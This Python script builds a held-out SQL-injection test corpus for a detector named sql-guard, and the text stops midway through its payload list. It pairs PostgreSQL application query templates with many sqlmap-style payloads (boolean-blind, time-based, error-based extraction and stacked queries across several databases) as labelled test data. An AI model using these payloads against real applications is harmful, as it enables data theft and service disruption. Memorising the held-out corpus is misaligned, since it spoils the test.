#!/usr/bin/env python3
"""Fourth, held-out-style SQL-injection corpus for sql-guard: holdout.jsonl.gz.

Python 3.11 standard library only; fixed seed; gzip mtime 0, so

    python3 crates/sql-guard/tests/data/make_holdout.py

rewrites holdout.jsonl.gz byte for byte.

Built without reading the guard's source or its test rules, and never tuned
against its score.  Rows:

* application templates ``ho01``..``ho45`` (none shared with dev, the
  generalization corpus or the blind corpus), one to three input slots each,
  filled with
  - sqlmap-style payloads (boolean blind, time based, error based, UNION
    query, stacked queries, inline queries; PostgreSQL and other DBMSes, as
    sqlmap sends them all) wrapped in sqlmap-like boundaries,
  - hand-written PostgreSQL techniques (pg_sleep variants, COPY ... PROGRAM,
    large objects, pg_read_file, dblink, CHR()/dollar/E''/U&'' literals, DO
    blocks, catalog probes, obfuscations),
  - benign tricky inputs escaped correctly for their slot;
* hand-written complex benign statements (``hx_*``), each filled a few times
  with benign values.

Label: a small PostgreSQL lexer (standard_conforming_strings on) checks each
slot.  A row is ``attack`` only when the input is not the single token its
slot expects; attack strings that stay inside their literal are benign
``contained_attack_string`` rows; attack strings the application escaped
correctly are benign ``escaped_attack_string`` rows.

``parses``: with ``--pg-port PORT`` (a throwaway PostgreSQL 15 on a unix
socket in /tmp) every statement is sent as ``SELECT 1/0;`` + statement in one
simple-protocol query: the server parses the whole text before running
anything, so a division-by-zero error means the statement parsed and any other
error means it did not; nothing of the statement is executed.  Without the
option the values are taken from the existing holdout.jsonl.gz (by sql text).
"""
import collections
import gzip
import io
import json
import os
import random
import re
import subprocess
import sys

SEED = 4_1519_2026
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "holdout.jsonl.gz")

# ---------------------------------------------------------------------------
# Lexer
# ---------------------------------------------------------------------------
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from sqli_lex import DOLLAR_TAG, ID_CONT, ID_START, NUMBER, OPCH, WS, lex  # noqa: E402,F401


BAD_COL_WORDS = {"select", "union", "from", "where", "and", "or", "limit", "offset", "having",
                 "group", "order", "case", "when", "then", "else", "end", "into", "not"}


def slot_ok(sql, toks, kind, a, b, open_pos, close_len):
    """Is sql[a:b] exactly the one token its slot expects?"""
    if kind in ("str", "estr", "ident", "dollar"):
        want = {"str": "str", "estr": "estr", "ident": "qident", "dollar": "dollar"}[kind]
        for t in toks:
            if t[1] == open_pos:
                return t[0] == want and t[2] == b + close_len
        return False
    inner = [t for t in toks if t[1] < b and t[2] > a]
    if not inner or inner[0][1] != a or inner[-1][2] != b:
        return False
    sig = [t for t in inner if t[0] != "ws"]
    if kind == "num":
        return len(sig) == 1 and sig[0][0] == "num"
    if kind == "numlist":
        if not sig or len(sig) % 2 == 0:
            return False
        for k, t in enumerate(sig):
            if k % 2 == 0 and t[0] != "num":
                return False
            if k % 2 == 1 and sql[t[1]:t[2]] != ",":
                return False
        return True
    if any(t[0] not in ("word", "qident") for t in sig):
        return False
    words = [sql[t[1]:t[2]].lower() for t in sig]
    if kind == "dir":
        return words in (["asc"], ["desc"])
    if kind == "col":
        if not words or words[0] in BAD_COL_WORDS:
            return False
        rest = words[1:]
        if rest[:1] in (["asc"], ["desc"]):
            rest = rest[1:]
        if rest in (["nulls", "first"], ["nulls", "last"]):
            rest = []
        return rest == []
    raise ValueError(kind)


# ---------------------------------------------------------------------------
# Templates.  Slots are written {name:kind}; a name may repeat (same input).
# kinds: str estr ident dollar num numlist col dir.  Per template: the right
# sqlmap closing for its string slots (close) and what rebalances the rest
# (reopen); like=True for LIKE patterns.  vals: benign inputs for a slot
# (family, [values]) that replace the generic ones.
# ---------------------------------------------------------------------------
SLOT_RE = re.compile(r"\{(\w+):(\w+)\}")
TEMPLATES = []


def tpl(name, sql, close="'", reopen=" AND 'z'='z", like=False, vals=None, attack_slots=None):
    slots = []
    for m in SLOT_RE.finditer(sql):
        if m.group(1) not in [s[0] for s in slots]:
            slots.append((m.group(1), m.group(2)))
    TEMPLATES.append(dict(name=name, sql=sql, slots=slots, close=close, reopen=reopen, like=like,
                          vals=vals or {}, attack_slots=attack_slots))


DATES = ("input_formatted", ["2025-01-31", "2024-02-29", "2025-12-01", "2023-07-04", "2026-03-15", "20250101", "2025-06-30 23:59:59"])
UUIDS = ("input_numeric_string", ["6f1c2a9e-3b7d-4c55-9a1e-0d2f4b8c7e61", "00000000-0000-0000-0000-000000000000", "A0EEBC99-9C0B-4EF8-BB6D-6BB9BD380A11", "{a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a12}", "a0eebc999c0b4ef8bb6d6bb9bd380a13"])

tpl("ho01_session_token",
    "SELECT s.user_id, s.expires_at FROM auth_sessions s WHERE s.token_hash = encode(sha256(convert_to('{tok:str}', 'UTF8')), 'hex') AND s.revoked_at IS NULL",
    close="', 'UTF8')), 'hex')", reopen=" AND encode('z','hex')=encode('z','hex")
tpl("ho02_login_crypt",
    "SELECT id, display_name FROM members WHERE lower(login) = lower('{login:str}') AND pass_hash = crypt('{pw:str}', pass_hash) AND NOT locked",
    close="')", reopen=" AND ('z'='z")
tpl("ho03_contacts_ilike",
    "SELECT id, company, city FROM crm_contacts WHERE company ILIKE '%{q:str}%' OR city ILIKE '%{q:str}%' ORDER BY company LIMIT 50",
    like=True, reopen=" AND '%'='")
tpl("ho04_sku_prefix_like",
    "SELECT sku, title FROM catalog_items WHERE sku LIKE '{p:str}%' AND in_stock ORDER BY sku",
    like=True, reopen=" AND 'z%'='z")
tpl("ho05_inbox_sort",
    "SELECT id, subject, received_at FROM inbox_messages WHERE mailbox_id = 12 ORDER BY {col:col} {dir:dir} LIMIT 40",
    close="", reopen="", vals={"col": ("input_identifier", ["received_at", "subject", "id", "sender", "size_bytes", "\"Received At\"", "mailbox_id", "\"order\""])})
tpl("ho06_posts_page",
    "SELECT id, title FROM blog_posts WHERE published ORDER BY published_at DESC LIMIT {lim:num} OFFSET {off:num}",
    close="", reopen="")
tpl("ho07_bins_in_ids",
    "SELECT id, label FROM warehouse_bins WHERE id IN ({ids:numlist}) ORDER BY label",
    close=")", reopen=" AND (1=1")
tpl("ho08_currency_in",
    "SELECT code, name, symbol FROM currencies WHERE code IN ('{a:str}', '{b:str}') AND active",
    close="')", reopen=" AND ('z'='z", vals={"a": ("input_plain", ["EUR", "USD", "JPY", "CHF", "GBP"]), "b": ("input_plain", ["SEK", "NOK", "DKK", "PLN"])})
tpl("ho09_insert_review",
    "INSERT INTO product_reviews (product_id, author, rating, body) VALUES ({pid:num}, '{author:str}', 5, '{body:str}')",
    close="', 5, 'z')", reopen=", 'z")
tpl("ho10_update_address",
    "UPDATE shipping_addresses SET street = '{street:str}', postal_code = '{zip:str}', updated_at = clock_timestamp() WHERE id = 5521 AND owner_id = 77",
    reopen=", city = 'z", vals={"zip": ("input_formatted", ["10115", "SW1A 1AA", "75008", "K1A 0B1", "100-0001", "2000"])})
tpl("ho11_delete_token_uuid",
    "DELETE FROM api_tokens WHERE token_id = '{tid:str}'::uuid AND owner_id = 31",
    reopen=" AND 'z'='z", vals={"tid": UUIDS})
tpl("ho12_upsert_pageviews",
    "INSERT INTO page_views (path, day, hits) VALUES ('{path:str}', current_date, 1) ON CONFLICT (path, day) DO UPDATE SET hits = page_views.hits + 1",
    close="', current_date, 1)", reopen=", 'z")
tpl("ho13_device_firmware_json",
    "SELECT id FROM device_events WHERE payload->'meta'->>'firmware' = '{fw:str}' AND received_at > now() - interval '1 hour'")
tpl("ho14_furniture_key_exists",
    "SELECT id, attrs #>> '{{dims,width}}' AS width FROM furniture WHERE attrs ? '{key:str}' ORDER BY id")
tpl("ho15_jsonb_set_pref",
    "UPDATE user_profiles SET settings = jsonb_set(settings, '{{notifications,email}}', to_jsonb('{v:str}'::text)) WHERE user_id = 8812",
    close="'::text))", reopen=", 'z")
tpl("ho16_playlist_track",
    "SELECT id, title FROM playlists WHERE track_ids @> ARRAY[{tr:num}]::int[] ORDER BY id",
    close="]", reopen=" AND ARRAY[1]=ARRAY[1")
tpl("ho17_bookmark_label",
    "UPDATE bookmarks SET labels = array_append(labels, '{lab:str}') WHERE id = 404 RETURNING id, labels",
    close="')", reopen=" || ('z")
tpl("ho18_meter_range",
    "SELECT day, sum(kwh) FROM meter_readings WHERE day >= '{d1:str}'::date AND day < '{d2:str}'::date + 1 GROUP BY day ORDER BY day",
    vals={"d1": DATES, "d2": DATES})
tpl("ho19_cte_agent_calls",
    "WITH recent AS (SELECT * FROM support_calls WHERE agent = '{agent:str}' AND started_at > now() - interval '7 days') SELECT count(*), avg(duration_s) FROM recent")
tpl("ho20_heat_rank",
    "SELECT athlete, finish_ms, rank() OVER (PARTITION BY heat ORDER BY finish_ms) AS place FROM race_results WHERE meet_code = '{meet:str}' ORDER BY heat, place")
tpl("ho21_clinic_exists",
    "SELECT c.id, c.name FROM clinics c WHERE EXISTS (SELECT 1 FROM clinic_services s WHERE s.clinic_id = c.id AND s.service_code = '{svc:str}') ORDER BY c.name",
    close="')", reopen=" AND ('z'='z")
tpl("ho22_cart_cleanup_returning",
    "DELETE FROM cart_lines WHERE cart_id = {cart:num} AND added_at < now() - interval '3 days' RETURNING sku, qty",
    close="", reopen="")
tpl("ho23_refund_int_cast",
    "SELECT id, amount FROM refunds WHERE order_ref = {ref:num}::int AND approved",
    close="", reopen="")
tpl("ho24_listing_price_numeric",
    "SELECT id, address FROM listings WHERE asking_price <= '{price:str}'::numeric AND status = 'active' ORDER BY asking_price DESC",
    vals={"price": ("input_numeric_string", ["450000", "1e6", "  325000 ", "99999.99", "0", "-1", "NaN", "1_000"])})
tpl("ho25_export_report_table",
    "COPY (SELECT * FROM reporting.\"{tbl:ident}\" ORDER BY 1) TO STDOUT WITH (FORMAT csv, HEADER)",
    close='"', reopen="")
tpl("ho26_survey_column",
    "SELECT \"{qcol:ident}\" AS answer, count(*) FROM survey_answers WHERE survey_id = 7 GROUP BY 1 ORDER BY 2 DESC",
    close='"', reopen="")
tpl("ho27_call_note_estr",
    "INSERT INTO call_notes (call_id, author_id, note) VALUES (901, 14, E'{note:estr}')",
    close="')", reopen=", E'z")
tpl("ho28_snippet_dollar",
    "INSERT INTO code_snippets (lang, title, code) VALUES ('sql', 'from form', $snip${code:dollar}$snip$) RETURNING id",
    close="$snip$", reopen="")
tpl("ho29_seller_having",
    "SELECT seller_id, count(*) AS n FROM sales_orders WHERE placed_at >= date_trunc('month', now()) GROUP BY seller_id HAVING count(*) >= {min:num} ORDER BY n DESC",
    close="", reopen="")
tpl("ho30_bedrooms_between",
    "SELECT id, title, price FROM real_estate WHERE bedrooms BETWEEN {lo:num} AND {hi:num} AND city_id = 3",
    close="", reopen="")
tpl("ho31_help_tsquery",
    "SELECT id, title FROM help_articles WHERE to_tsvector('simple', body) @@ to_tsquery('simple', '{tq:str}') LIMIT 15",
    close="')", reopen=" AND ('z'='z", vals={"tq": ("input_formatted", ["printer & offline", "wifi | wlan", "!refund", "pass:*", "reset <-> password", "vpn"])})
tpl("ho32_contact_phone",
    "SELECT id, full_name FROM contacts WHERE coalesce(nullif(mobile, ''), landline) = '{phone:str}'",
    vals={"phone": ("input_numeric_string", ["+49 30 1234567", "(555) 010-9999", "0044 20 7946 0958", "+1-202-555-0143", "112", "+81 3-1234-5678"])})
tpl("ho33_author_lateral",
    "SELECT a.id, a.name, l.title FROM authors a CROSS JOIN LATERAL (SELECT title FROM books b WHERE b.author_id = a.id ORDER BY b.sold DESC LIMIT 3) l WHERE a.country = '{cc:str}'")
tpl("ho34_sensor_distinct_on",
    "SELECT DISTINCT ON (sensor_id) sensor_id, reading, taken_at FROM sensor_log WHERE site = '{site:str}' ORDER BY sensor_id, taken_at DESC")
tpl("ho35_loyalty_points",
    "UPDATE loyalty_accounts SET points = points + {pts:num}, tier = CASE WHEN points + {pts:num} > 1000 THEN 'gold' ELSE tier END WHERE member_no = 'M-1182'",
    close="", reopen="")
tpl("ho36_reminder_hours",
    "SELECT id, title FROM reminders WHERE owner_id = 5 AND due_at < now() + make_interval(hours => {h:num}) ORDER BY due_at",
    close=")", reopen=" AND (1=1")
tpl("ho37_archive_thread",
    "INSERT INTO archived_posts (id, title, body) SELECT id, title, body FROM forum_posts WHERE thread_id = {th:num} AND author = '{who:str}' RETURNING id",
    attack_slots=None)
tpl("ho38_geoip_inet",
    "SELECT country_code FROM geoip_blocks WHERE network >>= '{ip:str}'::inet ORDER BY masklen(network) DESC LIMIT 1",
    vals={"ip": ("input_formatted", ["203.0.113.7", "2001:db8::1", "10.0.0.1", "192.168.1.254", "::ffff:198.51.100.3", "127.0.0.1"])})
tpl("ho39_server_regex",
    "SELECT id, hostname FROM servers WHERE hostname ~ '{rx:str}' AND decommissioned IS NULL ORDER BY hostname")
tpl("ho40_team_format",
    "SELECT format('%s <%s>', full_name, email) AS rcpt FROM staff WHERE team = '{team:str}' AND NOT on_leave")
tpl("ho41_notifications_keyset",
    "SELECT id, created_at, body FROM notifications WHERE user_id = 99 AND (created_at, id) < ('{ts:str}'::timestamptz, {lastid:num}) ORDER BY created_at DESC, id DESC LIMIT 20",
    close="'::timestamptz, 1)", reopen=" AND ('z'='z",
    vals={"ts": ("input_formatted", ["2025-05-01T12:00:00Z", "2025-05-01 12:00:00.123456+02", "2024-12-31 23:59:59", "yesterday", "2025-05-01T12:00:00.000+05:30"])})
tpl("ho42_tickets_group_col",
    "SELECT {g:col}, count(*) AS n FROM parking_tickets WHERE issued_on >= date '2025-01-01' GROUP BY {g:col} ORDER BY n DESC",
    close="", reopen="", vals={"g": ("input_identifier", ["street", "officer_id", "violation", "zone", "\"Vehicle Make\"", "plate_state"])})
tpl("ho43_webhook_jsonb",
    "INSERT INTO webhook_log (endpoint, received_at, body) VALUES ('https://hooks.example.net/in', now(), '{js:str}'::jsonb)",
    close="'::jsonb)", reopen=", 'z")
tpl("ho44_toggles_any",
    "SELECT id, name, enabled FROM feature_toggles WHERE name = ANY (string_to_array('{names:str}', ','))",
    close="', ','))", reopen=" AND ((',' = ','")
tpl("ho45_set_app_name",
    "SET application_name = '{app:str}'", reopen="",
    vals={"app": ("input_plain", ["billing-worker", "psql", "api/v2 (pod 7)", "cron: nightly", "reports", "Grafana"])})

# ---------------------------------------------------------------------------
# Random helpers for sqlmap-like payloads
# ---------------------------------------------------------------------------
R = random.Random(SEED)


def rnum():
    return str(R.randint(1000, 9999))


def rstr(k=4):
    return "".join(R.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(k))


def rmixstr(k=4):
    return "".join(R.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(k))


def delim():
    return "q" + rstr(3) + "q"


def chrs(s):
    return "(" + "||".join(f"CHR({ord(c)})" for c in s) + ")"


def mschars(s):
    return "+".join(f"CHAR({ord(c)})" for c in s)


def hexs(s):
    return "0x" + "".join(f"{ord(c):02x}" for c in s)


def fill_vec(v):
    """Instantiate placeholders of a sqlmap-style vector."""
    r0, r1, r2 = rnum(), rnum(), rnum()
    ds, de = delim(), delim()
    rep = {
        "{R0}": r0, "{R1}": r1, "{R2}": r2, "{S}": str(R.choice([5, 5, 5, 3, 7, 10])),
        "{DS}": ds, "{DE}": de, "{DSC}": chrs(ds), "{DEC}": chrs(de), "{DSH}": hexs(ds), "{DEH}": hexs(de),
        "{DSM}": mschars(ds), "{DEM}": mschars(de), "{RS}": rmixstr(4), "{HEAVY}": str(R.choice([5000000, 3000000, 10000000, 8000000])),
        "{HX}": hexs(rmixstr(4)),
    }
    for k, val in rep.items():
        v = v.replace(k, val)
    return v


# (technique, dbms, title, vector).  Vectors that start with AND/OR/HAVING
# follow the value; ";" vectors are stacked; "(SELECT" vectors replace it.
SQLMAP = [
    # boolean blind
    ("boolean", "generic", "AND boolean-based blind - WHERE or HAVING clause", "AND {R0}={R0}"),
    ("boolean", "generic", "AND boolean-based blind - WHERE or HAVING clause (false)", "AND {R0}={R1}"),
    ("boolean", "generic", "OR boolean-based blind - WHERE or HAVING clause", "OR {R0}={R0}"),
    ("boolean", "generic", "OR boolean-based blind - WHERE or HAVING clause (NOT)", "OR NOT {R0}={R1}"),
    ("boolean", "generic", "AND boolean-based blind - WHERE or HAVING clause (subquery)", "AND {R0}=(SELECT (CASE WHEN ({R0}={R0}) THEN {R0} ELSE (SELECT {R1} UNION SELECT {R2}) END))"),
    ("boolean", "generic", "Boolean-based blind - Parameter replace (original value)", "(SELECT (CASE WHEN ({R0}={R0}) THEN [V] ELSE (SELECT {R1} UNION SELECT {R2}) END))"),
    ("boolean", "PostgreSQL", "PostgreSQL AND boolean-based blind - WHERE or HAVING clause (CAST)", "AND (SELECT (CASE WHEN ({R0}={R0}) THEN NULL ELSE CAST(({DSC}) AS NUMERIC) END)) IS NULL"),
    ("boolean", "PostgreSQL", "PostgreSQL OR boolean-based blind - WHERE or HAVING clause (CAST)", "OR (SELECT (CASE WHEN ({R0}={R1}) THEN NULL ELSE CAST(({DSC}) AS NUMERIC) END)) IS NULL"),
    ("boolean", "PostgreSQL", "PostgreSQL boolean-based blind - Parameter replace", "(SELECT (CASE WHEN ({R0}={R0}) THEN [V] ELSE 1/(SELECT 0) END))"),
    ("boolean", "PostgreSQL", "PostgreSQL boolean-based blind - ORDER BY, GROUP BY clause", ",(SELECT (CASE WHEN ({R0}={R0}) THEN 1 ELSE 1/(SELECT 0) END))"),
    ("boolean", "PostgreSQL", "PostgreSQL AND boolean-based blind - data extraction", "AND ASCII(SUBSTRING((SELECT COALESCE(CAST(current_user AS VARCHAR(10000))::text,(CHR(32)))),{K},1))>{A}"),
    ("boolean", "PostgreSQL", "PostgreSQL AND boolean-based blind - data extraction (count)", "AND (SELECT COUNT(datname) FROM pg_database)>{K}"),
    ("boolean", "generic", "HAVING boolean-based blind - WHERE, GROUP BY clause", "HAVING {R0}={R0}"),
    ("boolean", "MySQL", "MySQL RLIKE boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause", "RLIKE (SELECT (CASE WHEN ({R0}={R0}) THEN {HX} ELSE 0x28 END))"),
    ("boolean", "MySQL", "MySQL AND boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (MAKE_SET)", "AND MAKE_SET({R0}={R0},{R1})"),
    ("boolean", "MySQL", "MySQL OR boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (ELT)", "OR ELT({R0}={R0},{R1})"),
    ("boolean", "MySQL", "MySQL boolean-based blind - Parameter replace (bool*int)", "(SELECT {R0} FROM DUAL WHERE {R0}={R0})*{R1}"),
    ("boolean", "MySQL", "MySQL AND boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (EXTRACTVALUE)", "AND EXTRACTVALUE({R0},CASE WHEN ({R0}={R0}) THEN {R0} ELSE 0x3A END)"),
    ("boolean", "Microsoft SQL Server", "Microsoft SQL Server/Sybase AND boolean-based blind - Stacked/IIF", "AND IIF({R0}={R0},1,1/0)=1"),
    ("boolean", "Oracle", "Oracle AND boolean-based blind - WHERE or HAVING clause (CTXSYS.DRITHSX.SN)", "AND (SELECT (CASE WHEN ({R0}={R0}) THEN NULL ELSE CTXSYS.DRITHSX.SN(1,{R0}) END) FROM DUAL) IS NULL"),
    ("boolean", "SQLite", "SQLite AND boolean-based blind - WHERE, HAVING, GROUP BY or HAVING clause (JSON)", "AND CASE WHEN {R0}={R0} THEN {R0} ELSE JSON(CHAR({A},{A})) END"),
    ("boolean", "IBM DB2", "IBM DB2 AND boolean-based blind - WHERE or HAVING clause", "AND {R0}=(SELECT {R0} FROM SYSIBM.SYSDUMMY1 WHERE {R0}={R0})"),
    # time based
    ("time", "PostgreSQL", "PostgreSQL > 8.1 AND time-based blind", "AND {R0}=(SELECT {R0} FROM PG_SLEEP({S}))"),
    ("time", "PostgreSQL", "PostgreSQL > 8.1 OR time-based blind", "OR {R0}=(SELECT {R0} FROM PG_SLEEP({S}))"),
    ("time", "PostgreSQL", "PostgreSQL AND time-based blind (heavy query)", "AND {R0}=(SELECT COUNT(*) FROM GENERATE_SERIES(1,{HEAVY}))"),
    ("time", "PostgreSQL", "PostgreSQL OR time-based blind (heavy query - comment)", "OR {R0}=(SELECT COUNT(*) FROM GENERATE_SERIES(1,{HEAVY}))"),
    ("time", "PostgreSQL", "PostgreSQL > 8.1 time-based blind - Parameter replace", "(SELECT {R0} FROM PG_SLEEP({S}))"),
    ("time", "PostgreSQL", "PostgreSQL time-based blind - Parameter replace (heavy query)", "(SELECT COUNT(*) FROM GENERATE_SERIES(1,{HEAVY}))"),
    ("time", "PostgreSQL", "PostgreSQL > 8.1 time-based blind - ORDER BY, GROUP BY clause", ",(SELECT {R0} FROM PG_SLEEP({S}))"),
    ("time", "PostgreSQL", "PostgreSQL AND time-based blind - conditional", "AND {R0}=(CASE WHEN ({R0}={R0}) THEN (SELECT {R0} FROM PG_SLEEP({S})) ELSE {R0} END)"),
    ("time", "MySQL", "MySQL >= 5.0.12 AND time-based blind (query SLEEP)", "AND (SELECT {R0} FROM (SELECT(SLEEP({S}))){RS})"),
    ("time", "MySQL", "MySQL >= 5.0.12 OR time-based blind (SLEEP)", "OR SLEEP({S})"),
    ("time", "MySQL", "MySQL >= 5.0.12 AND time-based blind (SLEEP)", "AND SLEEP({S})"),
    ("time", "MySQL", "MySQL < 5.0.12 AND time-based blind (BENCHMARK)", "AND {R0}=BENCHMARK({HEAVY},MD5({HX}))"),
    ("time", "MySQL", "MySQL >= 5.0.12 RLIKE time-based blind", "RLIKE SLEEP({S})"),
    ("time", "MySQL", "MySQL >= 5.0.12 time-based blind - Parameter replace (substraction)", "(SELECT {R0} FROM (SELECT(SLEEP({S})))x)"),
    ("time", "Microsoft SQL Server", "Microsoft SQL Server/Sybase time-based blind (IF)", "IF({R0}={R0}) WAITFOR DELAY '0:0:{S}'"),
    ("time", "Microsoft SQL Server", "Microsoft SQL Server/Sybase AND time-based blind (heavy query)", "AND {R0}=(SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2,sysusers AS sys3,sysusers AS sys4)"),
    ("time", "Oracle", "Oracle AND time-based blind", "AND {R0}=DBMS_PIPE.RECEIVE_MESSAGE({DSC},{S})"),
    ("time", "Oracle", "Oracle OR time-based blind (heavy query)", "OR {R0}=(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3,ALL_USERS T4)"),
    ("time", "SQLite", "SQLite > 2.0 AND time-based blind (heavy query)", "AND {R0}=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(500000000/2))))"),
    ("time", "IBM DB2", "IBM DB2 AND time-based blind (heavy query)", "AND {R0}=(SELECT COUNT(*) FROM SYSIBM.SYSTABLES AS T1,SYSIBM.SYSTABLES AS T2,SYSIBM.SYSTABLES AS T3)"),
    ("time", "Firebird", "Firebird >= 2.0 AND time-based blind (heavy query)", "AND {R0}=(SELECT COUNT(*) FROM RDB$FIELDS AS T1,RDB$TYPES AS T2,RDB$COLLATIONS AS T3,RDB$FUNCTIONS AS T4)"),
    ("time", "HSQLDB", "HSQLDB >= 1.7.2 AND time-based blind (heavy query)", "AND CHAR({A})=REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR({A}),0),{HEAVY}),NULL)"),
    # error based
    ("error", "PostgreSQL", "PostgreSQL AND error-based - WHERE or HAVING clause", "AND {R0}=CAST(({DSC})||(SELECT (CASE WHEN ({R0}={R0}) THEN 1 ELSE 0 END))::text||({DEC}) AS NUMERIC)"),
    ("error", "PostgreSQL", "PostgreSQL OR error-based - WHERE or HAVING clause", "OR {R0}=CAST(({DSC})||(SELECT (CASE WHEN ({R0}={R0}) THEN 1 ELSE 0 END))::text||({DEC}) AS NUMERIC)"),
    ("error", "PostgreSQL", "PostgreSQL AND error-based - data extraction", "AND {R0}=CAST(({DSC})||(SELECT COALESCE(CAST({EXPR} AS VARCHAR(10000))::text,(CHR(32))))::text||({DEC}) AS NUMERIC)"),
    ("error", "PostgreSQL", "PostgreSQL error-based - Parameter replace", "(CAST(({DSC})||(SELECT (CASE WHEN ({R0}={R0}) THEN 1 ELSE 0 END))::text||({DEC}) AS NUMERIC))"),
    ("error", "PostgreSQL", "PostgreSQL error-based - ORDER BY or GROUP BY clause", ",(CAST(({DSC})||(SELECT (CASE WHEN ({R0}={R0}) THEN 1 ELSE 0 END))::text||({DEC}) AS NUMERIC))"),
    ("error", "PostgreSQL", "PostgreSQL AND error-based - WHERE or HAVING clause (GENERATE_SERIES)", "AND {R0}=(SELECT {R0} FROM (SELECT CAST(({DSC})||(SELECT (CASE WHEN ({R0}={R0}) THEN 1 ELSE 0 END))::text||({DEC}) AS NUMERIC) FROM GENERATE_SERIES(1,1)) x)"),
    ("error", "MySQL", "MySQL >= 5.1 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (EXTRACTVALUE)", "AND EXTRACTVALUE({R0},CONCAT(0x5c,{DSH},(SELECT (ELT({R0}={R0},1))),{DEH}))"),
    ("error", "MySQL", "MySQL >= 5.1 OR error-based - WHERE or HAVING clause (UPDATEXML)", "OR UPDATEXML({R0},CONCAT(0x2e,{DSH},(SELECT (ELT({R0}={R0},1))),{DEH}),{R1})"),
    ("error", "MySQL", "MySQL >= 5.0 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (FLOOR)", "AND (SELECT {R0} FROM(SELECT COUNT(*),CONCAT({DSH},(SELECT (ELT({R0}={R0},1))),{DEH},FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)"),
    ("error", "MySQL", "MySQL >= 5.6 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (GTID_SUBSET)", "AND GTID_SUBSET(CONCAT({DSH},(SELECT (ELT({R0}={R0},1))),{DEH}),{R0})"),
    ("error", "MySQL", "MySQL >= 5.5 OR error-based - WHERE or HAVING clause (EXP)", "OR EXP(~(SELECT * FROM (SELECT CONCAT({DSH},(SELECT (ELT({R0}={R0},1))),{DEH},0x78))x))"),
    ("error", "MySQL", "MySQL >= 5.7.8 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (JSON_KEYS)", "AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT({DSH},(SELECT (ELT({R0}={R0},1))),{DEH})) USING utf8)))"),
    ("error", "Microsoft SQL Server", "Microsoft SQL Server/Sybase AND error-based - WHERE or HAVING clause (IN)", "AND {R0} IN (SELECT ({DSM}+(SELECT (CASE WHEN ({R0}={R0}) THEN CHAR(49) ELSE CHAR(48) END))+{DEM}))"),
    ("error", "Microsoft SQL Server", "Microsoft SQL Server/Sybase AND error-based - WHERE or HAVING clause (CONVERT)", "AND {R0}=CONVERT(INT,(SELECT {DSM}+(SELECT (CASE WHEN ({R0}={R0}) THEN CHAR(49) ELSE CHAR(48) END))+{DEM}))"),
    ("error", "Oracle", "Oracle AND error-based - WHERE or HAVING clause (XMLType)", "AND {R0}=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||{DSC}||(SELECT (CASE WHEN ({R0}={R0}) THEN 1 ELSE 0 END) FROM DUAL)||{DEC}||CHR(62))) FROM DUAL)"),
    ("error", "Oracle", "Oracle OR error-based - WHERE or HAVING clause (UTL_INADDR.GET_HOST_ADDRESS)", "OR {R0}=UTL_INADDR.GET_HOST_ADDRESS({DSC}||(SELECT (CASE WHEN ({R0}={R0}) THEN 1 ELSE 0 END) FROM DUAL)||{DEC})"),
    ("error", "Oracle", "Oracle AND error-based - WHERE or HAVING clause (CTXSYS.DRITHSX.SN)", "AND {R0}=CTXSYS.DRITHSX.SN({R0},({DSC}||(SELECT (CASE WHEN ({R0}={R0}) THEN 1 ELSE 0 END) FROM DUAL)||{DEC}))"),
    ("error", "Firebird", "Firebird AND error-based - WHERE or HAVING clause", "AND {R0}=('{DS}'||(SELECT CASE {R0} WHEN {R0} THEN 1 ELSE 0 END FROM RDB$DATABASE)||'{DE}')"),
    ("error", "IBM DB2", "IBM DB2 AND error-based - WHERE or HAVING clause", "AND {R0}=RAISE_ERROR('70001','{DS}'||(SELECT CASE WHEN {R0}={R0} THEN 1 ELSE 0 END FROM SYSIBM.SYSDUMMY1)||'{DE}')"),
    # stacked queries
    ("stacked", "PostgreSQL", "PostgreSQL > 8.1 stacked queries (comment)", ";SELECT PG_SLEEP({S})--"),
    ("stacked", "PostgreSQL", "PostgreSQL > 8.1 stacked queries", ";SELECT PG_SLEEP({S})"),
    ("stacked", "PostgreSQL", "PostgreSQL stacked queries (heavy query - comment)", ";SELECT COUNT(*) FROM GENERATE_SERIES(1,{HEAVY})--"),
    ("stacked", "PostgreSQL", "PostgreSQL < 8.2 stacked queries (Glibc - comment)", ";CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS '/lib/libc.so.6','sleep' language 'C' STRICT; SELECT sleep({S})--"),
    ("stacked", "PostgreSQL", "PostgreSQL stacked conditional delay", ";SELECT (CASE WHEN ({R0}={R0}) THEN (SELECT {R0} FROM PG_SLEEP({S})) ELSE {R0} END)--"),
    ("stacked", "MySQL", "MySQL >= 5.0.12 stacked queries (comment)", ";SELECT SLEEP({S})#"),
    ("stacked", "MySQL", "MySQL >= 5.0.12 stacked queries (query SLEEP - comment)", ";(SELECT * FROM (SELECT(SLEEP({S}))){RS})#"),
    ("stacked", "Microsoft SQL Server", "Microsoft SQL Server/Sybase stacked queries (comment)", ";WAITFOR DELAY '0:0:{S}'--"),
    ("stacked", "Microsoft SQL Server", "Microsoft SQL Server/Sybase stacked queries (DECLARE - comment)", ";DECLARE @x CHAR(9);SET @x=0x303a303a35;WAITFOR DELAY @x--"),
    ("stacked", "Oracle", "Oracle stacked queries (DBMS_PIPE.RECEIVE_MESSAGE - comment)", ";SELECT DBMS_PIPE.RECEIVE_MESSAGE({DSC},{S}) FROM DUAL--"),
